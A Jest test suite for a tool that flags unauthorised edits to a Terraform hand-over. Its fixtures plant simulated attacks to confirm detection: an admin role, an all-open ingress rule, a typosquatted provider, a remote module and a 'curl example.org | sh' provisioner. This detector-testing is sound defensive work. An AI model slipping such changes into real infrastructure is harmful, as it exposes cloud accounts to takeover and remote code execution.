import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type Run } from "../support/command-runs";
import { Handoffs, everything, read } from "./handoffs";

interface Edit {
  readonly module: string;
  readonly address: string;
  readonly message: string;
  readonly place?: string;
  readonly origin: string;
}

const editsOf = ({ stdout }: Run): Edit[] => (JSON.parse(stdout) as { ownEdits: Edit[] }).ownEdits;

const linesOf = (run: Run): string[] =>
  editsOf(run).map(({ module, address, message }) => `${module} ${address} ${message}`);

const ADDED = "the folder has it, and the stack does not";
const REMOVED = "the stack has it, and the folder does not";

const write = (folder: string, path: string, text: string): void => writeFileSync(join(folder, path), text);

/** Replaces a text that occurs once. */
function replace(folder: string, path: string, text: string, by: string): void {
  const before = read(folder, path);
  expect(before.split(text)).toHaveLength(2);
  write(
    folder,
    path,
    before.replace(text, () => by),
  );
}

describe("a module in HCL", () => {
  const handoffs = new Handoffs("own-edits-hcl", "hcl");
  beforeAll(() => handoffs.synthesize());

  const checked = (folder: string): Promise<Run> => handoffs.run(["--check", folder, "--json"]);

  test("has no own edits where it is as it was handed over", async () => {
    const run = await checked(await handoffs.handedOver());
    expect(run.status).toBe(0);
    expect(editsOf(run)).toEqual([]);
  });

  test("has none where only comments, spaces and the order of blocks are other ones", async () => {
    const folder = await handoffs.handedOver();
    const text = read(folder, "network/vpc.tf");
    const blocks = text.split(/\n(?=resource )/);
    write(folder, "network/vpc.tf", `# ours\n${blocks.reverse().join("\n").replaceAll(" = ", "   =  ")}\n`);
    expect(linesOf(await checked(folder))).toEqual([]);
  });

  test("has none where every file has another comment", async () => {
    const folder = await handoffs.handedOver();
    const files = Object.keys(everything(folder)).filter((path) =>
      /^\w+\/[^/]*\.(tf|tfvars|hcl)$/.test(path),
    );
    expect(files.length).toBeGreaterThan(50);
    for (const path of files) write(folder, path, `# ours\n${read(folder, path)}`);
    expect(linesOf(await checked(folder))).toEqual([]);
  });

  test("has none where a block is in another file", async () => {
    const folder = await handoffs.handedOver();
    const text = read(folder, "network/flow-logs.tf");
    rmSync(join(folder, "network/flow-logs.tf"));
    write(folder, "network/flow.tf", text);
    expect(linesOf(await checked(folder))).toEqual([]);
  });

  test("names each of fifteen attacks once", async () => {
    const folder = await handoffs.handedOver();
    const into = (path: string, header: string, line: string): void =>
      replace(folder, path, `${header} {\n`, `${header} {\n${line}\n`);
    write(
      folder,
      "cluster/intruder.tf",
      [
        'resource "aws_iam_role" "intruder" {\n  managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]\n}',
        'resource "aws_eks_access_policy_association" "intruder" {\n  principal_arn = "arn:aws:iam::999999999999:root"\n}',
        'resource "aws_key_pair" "intruder" {\n  public_key = "ssh-ed25519 AAAA"\n}',
        'resource "aws_db_snapshot" "intruder" {\n  shared_accounts = ["all"]\n}',
        'resource "aws_lambda_function_url" "intruder" {\n  authorization_type = "NONE"\n}',
        'resource "aws_s3_account_public_access_block" "intruder" {\n  block_public_acls = false\n}',
      ].join("\n"),
    );
    into(
      "cluster/node-groups.tf",
      'resource "aws_launch_template" "main"',
      '  image_id = "ami-0123456789abcdef0"',
    );
    into(
      "network/vpc.tf",
      'resource "aws_vpc" "main"',
      '  provisioner "local-exec" {\n    command = "curl example.org | sh"\n  }',
    );
    replace(folder, "network/versions.tf", '"hashicorp/aws"', '"hashicopr/aws"');
    write(
      folder,
      "network/module.tf",
      'module "intruder" {\n  source = "git::https://example.org/m.git"\n}\n',
    );
    into("models/models.tf", 'resource "kubernetes_network_policy_v1" "models_default_deny"', "  count = 0");
    into(
      "state/state-bucket.tf",
      'resource "aws_s3_bucket_public_access_block" "state_bucket"',
      "  count = 0",
    );
    write(
      folder,
      "network/extra.tf",
      'resource "aws_vpc_security_group_ingress_rule" "intruder" {\n  cidr_ipv4   = "0.0.0.0/0"\n  ip_protocol = "-1"\n}\n',
    );
    write(folder, "cluster/open_override.tf", 'resource "aws_eks_cluster" "main" {\n  version = "1.20"\n}\n');
    write(
      folder,
      "network/peering.tf",
      'resource "aws_vpc_peering_connection" "intruder" {\n  peer_owner_id = "999999999999"\n}\n',
    );
    const run = await checked(folder);
    expect(run.status).toBe(1);
    expect(linesOf(run)).toEqual([
      "state aws_s3_bucket_public_access_block.state_bucket count: nothing -> 0",
      'network terraform required_providers.aws.source: "hashicorp/aws" -> "hashicopr/aws"',
      'network aws_vpc.main provisioner: nothing -> {"local-exec":[{"command":"curl example.org | sh"}]}',
      `network aws_vpc_security_group_ingress_rule.intruder ${ADDED}`,
      `network module.intruder ${ADDED}`,
      `network aws_vpc_peering_connection.intruder ${ADDED}`,
      'cluster aws_eks_cluster.main version: "${var.kubernetes_version}" -> "1.20"',
      'cluster aws_launch_template.main image_id: nothing -> "ami-0123456789abcdef0"',
      `cluster aws_iam_role.intruder ${ADDED}`,
      `cluster aws_eks_access_policy_association.intruder ${ADDED}`,
      `cluster aws_key_pair.intruder ${ADDED}`,
      `cluster aws_db_snapshot.intruder ${ADDED}`,
      `cluster aws_lambda_function_url.intruder ${ADDED}`,
      `cluster aws_s3_account_public_access_block.intruder ${ADDED}`,
      "models kubernetes_network_policy_v1.models_default_deny count: nothing -> 0",
    ]);
    expect(editsOf(run).every(({ origin }) => origin === "own")).toBe(true);
    expect(editsOf(run).find(({ address }) => address === "aws_key_pair.intruder")?.place).toBe(
      "cluster/intruder.tf:7:1",
    );
    expect(editsOf(run).find(({ address }) => address === "aws_eks_cluster.main")?.place).toBe(
      "cluster/open_override.tf:1:1",
    );
  });

  test("names a changed, an added and a removed argument, and a removed block", async () => {
    const folder = await handoffs.handedOver();
    const vpc = read(folder, "network/vpc.tf");
    write(
      folder,
      "network/vpc.tf",
      vpc
        .replace(/ +instance_tenancy +=.*\n/, "")
        .replace(/enable_dns_support +=.*\n/, "enable_dns_support = false\n")
        .replace(
          'resource "aws_vpc" "main" {\n',
          'resource "aws_vpc" "main" {\n  enable_network_address_usage_metrics = true\n',
        )
        .replace(/resource "aws_subnet" "private" \{[^]*?\n\}\n/, ""),
    );
    expect(linesOf(await checked(folder)).sort()).toEqual([
      `network aws_subnet.private ${REMOVED}`,
      "network aws_vpc.main enable_dns_support: true -> false",
      "network aws_vpc.main enable_network_address_usage_metrics: nothing -> true",
      'network aws_vpc.main instance_tenancy: "default" -> nothing',
    ]);
  });

  test("shows no value of a secret", async () => {
    const folder = await handoffs.handedOver();
    const header = 'resource "aws_vpc" "main" {\n';
    replace(folder, "network/vpc.tf", header, `${header}  master_password = "hunter2hunter2"\n`);
    write(folder, "network/more.auto.tfvars", 'db_password = "hunter2hunter2"\n');
    expect(linesOf(await checked(folder))).toEqual([
      'network aws_vpc.main master_password: nothing -> "(sensitive value)"',
      'network more.auto.tfvars db_password: nothing -> "(sensitive value)"',
    ]);
  });

  test("names an argument with a name that every object inherits", async () => {
    const folder = await handoffs.handedOver();
    const header = 'resource "aws_vpc" "main" {\n';
    replace(folder, "network/vpc.tf", header, `${header}  constructor = "ours"\n`);
    expect(linesOf(await checked(folder))).toEqual(['network aws_vpc.main constructor: nothing -> "ours"']);
  });

  test("names values that Terraform loads by itself, and no value of the file for them", async () => {
    const folder = await handoffs.handedOver();
    replace(folder, "network/ml-inference-prod.tfvars", "= 30\n", "= 1\n");
    write(folder, "network/more.auto.tfvars", 'account_id = "111122223333"\n');
    expect(linesOf(await checked(folder))).toEqual([
      'network more.auto.tfvars account_id: nothing -> "111122223333"',
    ]);
  });

  test("has none in values that only a command line names", async () => {
    const folder = await handoffs.handedOver();
    write(folder, "network/staging.tfvars", 'api_access_cidrs = ["10.0.0.0/8"]\n');
    const run = await checked(folder);
    expect(run.status).toBe(0);
    expect(editsOf(run)).toEqual([]);
  });

  test("names the changed, added and removed files of a chart, which Helm installs", async () => {
    const folder = await handoffs.handedOver();
    const chart = "models/charts/custom-resources";
    write(folder, `${chart}/templates/more.yaml`, "kind: ClusterRoleBinding\n");
    write(folder, `${chart}/templates/resources.yaml`, "kind: Secret\n");
    rmSync(join(folder, chart, "Chart.yaml"));
    const run = await checked(folder);
    expect(run.status).toBe(1);
    expect(linesOf(run)).toEqual([
      `models charts/custom-resources/Chart.yaml ${REMOVED}`,
      `models charts/custom-resources/templates/more.yaml ${ADDED}`,
      "models charts/custom-resources/templates/resources.yaml the folder has another text of it than the stack",
    ]);
  });

  test("shows the edits with their places in text", async () => {
    const folder = await handoffs.handedOver();
    write(folder, "network/extra.tf", 'resource "aws_eip" "mine" {\n}\n');
    const { status, stdout } = await handoffs.run(["--check", folder]);
    expect(status).toBe(1);
    expect(stdout).toContain("  network/extra.tf not part of the hand-over\n");
    expect(stdout).toContain(`own   network aws_eip.mine: ${ADDED} (network/extra.tf:1:1)\n`);
    expect(stdout).toContain("1 own edit\n");
  });

  test("says where the stack is not the one that was handed over", async () => {
    const folder = await handoffs.handedOver();
    write(folder, "network/extra.tf", 'resource "aws_eip" "mine" {\n}\n');
    const changed = handoffs.synthesizeChanged();
    const run = await handoffs.run(["--check", folder, "--in", changed]);
    expect(run.stdout).toContain(
      "network: cdk.tf.json is not the one of the hand-over; own edits are compared with the current one\n",
    );
    const { stdout } = await handoffs.run(["--check", folder, "--in", changed, "--json"]);
    expect(JSON.parse(stdout)).toEqual(
      expect.objectContaining({ changedStacks: expect.arrayContaining(["network"]) as string[] }),
    );
  });

  test("an unedited folder has no own edits after another synth", async () => {
    const folder = await handoffs.handedOver();
    const run = await handoffs.run(["--check", folder, "--in", handoffs.synthesizeChanged(), "--json"]);
    expect(editsOf(run)).toEqual([]);
  });

  test("names a file that Terraform cannot read at its line, and not its blocks", async () => {
    const folder = await handoffs.handedOver();
    write(folder, "network/vpc.tf", "\nresource {\n");
    const run = await checked(folder);
    expect(run.status).toBe(1);
    expect(editsOf(run)).toEqual([
      expect.objectContaining({
        address: "vpc.tf",
        place: expect.stringMatching(/^network\/vpc\.tf:\d+:\d+$/) as string,
        message: expect.stringMatching(/^Terraform cannot read it: invalid HCL/) as string,
      }),
    ]);
  });
});

describe("a module in JSON", () => {
  const handoffs = new Handoffs("own-edits-json", "json");
  beforeAll(() => handoffs.synthesize());

  test("has no own edits where it is as it was handed over", async () => {
    const run = await handoffs.run(["--check", await handoffs.handedOver(), "--json"]);
    expect(run.status).toBe(0);
    expect(editsOf(run)).toEqual([]);
  });

  test("names a changed argument, and a block in a file of HCL", async () => {
    const folder = await handoffs.handedOver();
    replace(folder, "network/vpc.tf.json", '"enable_dns_support": true', '"enable_dns_support": false');
    write(folder, "network/extra.tf", 'resource "aws_eip" "mine" {\n}\n');
    expect(linesOf(await handoffs.run(["--check", folder, "--json"]))).toEqual([
      "network aws_vpc.main enable_dns_support: true -> false",
      `network aws_eip.mine ${ADDED}`,
    ]);
  });
});
